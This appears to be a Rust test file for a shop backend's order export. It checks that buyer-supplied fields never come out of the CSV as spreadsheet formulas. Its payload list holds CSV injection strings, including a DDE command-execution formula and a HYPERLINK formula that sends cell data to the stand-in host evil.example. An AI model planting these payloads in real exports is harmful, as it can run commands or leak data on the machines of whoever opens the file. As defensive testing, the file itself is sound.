//! Known attacks through the table of orders: no cell that a buyer can fill is a formula.

use serde_json::json;

use crate::world::World;

const TARGET: &str = "/admin/v1/export/orders.csv";

/// What a spreadsheet would work out, fetch or start.
const FORMULAS: &[&str] = &[
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"点我\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1",
    "\",=1+1",
    "\"\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u{feff}=1+1",
];

/// The cells of a table as a spreadsheet reads them. Source: RFC 4180.
fn cells(csv: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (vec![], String::new(), false);
    let mut signs = csv.chars().peekable();
    while let Some(sign) = signs.next() {
        match sign {
            '"' if quoted && signs.peek() == Some(&'"') => {
                signs.next();
                cell.push('"');
            }
            '"' if quoted || cell.is_empty() => quoted = !quoted,
            ',' | '\n' if !quoted => cells.push(std::mem::take(&mut cell)),
            '\r' if !quoted => {}
            other => cell.push(other),
        }
    }
    cells.push(cell);
    cells
}

/// Whether a spreadsheet may take it for a formula, also behind signs that it does not show.
fn is_formula(cell: &str) -> bool {
    let hidden = |c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}';
    let shown = cell.trim_start_matches(hidden);
    let begins = shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']);
    let is_number = shown
        .strip_prefix('-')
        .is_some_and(|n| n.parse::<u64>().is_ok());
    begins && !is_number
}

#[test]
fn no_cell_of_the_exported_orders_is_a_formula() {
    let world = World::with(|setup| setup.may_be_refused = true);
    let (merchant, buyer) = (world.merchant(), world.buyer());
    let (mut taken, mut texts) = (0, 0);
    for formula in FORMULAS {
        let goods = json!({ "title": formula, "price_fen": 1, "stock": 1, "spec": formula });
        let goods = merchant.caller.call("POST", "/admin/v1/goods", &goods);
        // Some signs are refused already where they come in.
        let goods = match goods.status {
            201 => goods.json()["id"].as_u64().unwrap(),
            _ => merchant.sells("茶", 1, 1),
        };
        let address = json!({ "name": formula, "phone": formula, "province": formula,
            "city": formula, "district": formula, "detail": formula });
        let order = json!({ "lines": [{ "goods_id": goods, "count": 1 }],
            "remark": formula, "address": address });
        let order = buyer.caller.call("POST", "/api/v1/orders", &order);
        if order.status != 201 {
            order.refuses(400, "INVALID_REQUEST");
            continue;
        }
        taken += 1;
        let order_no = order.json()["order_no"].as_str().unwrap().to_owned();
        let note = json!({ "merchant_note": formula });
        let target = format!("/admin/v1/orders/{order_no}");
        merchant.caller.call("PATCH", &target, &note).expect(200);
    }
    assert!(taken >= 10, "{taken}");
    let reply = merchant.caller.get(TARGET);
    assert_eq!(reply.status, 200, "{}", reply.text());
    assert_eq!(
        reply.message.header("x-content-type-options"),
        Some("nosniff")
    );
    let named = reply.message.header("content-disposition").unwrap();
    assert_eq!(named, "attachment; filename=\"orders.csv\"");
    for cell in cells(&reply.text()) {
        texts += usize::from(cell.contains("1+1"));
        assert!(!is_formula(&cell), "{cell:?}");
    }
    assert!(
        texts >= taken,
        "{texts} cells hold what {taken} buyers wrote"
    );
}

#[test]
fn a_formula_is_seen_in_each_disguise() {
    for formula in FORMULAS.iter().filter(|text| !text.starts_with('"')) {
        assert!(is_formula(formula), "{formula:?}");
    }
    for plain in [
        "'=1+1",
        "茶",
        "",
        "-5",
        "\t4200000000202601010000000001",
        "2026-01-01",
    ] {
        assert!(!is_formula(plain), "{plain:?}");
    }
    assert_eq!(cells("a,\"b\"\"\n,c\"\r\nd"), ["a", "b\"\n,c", "d"]);
}
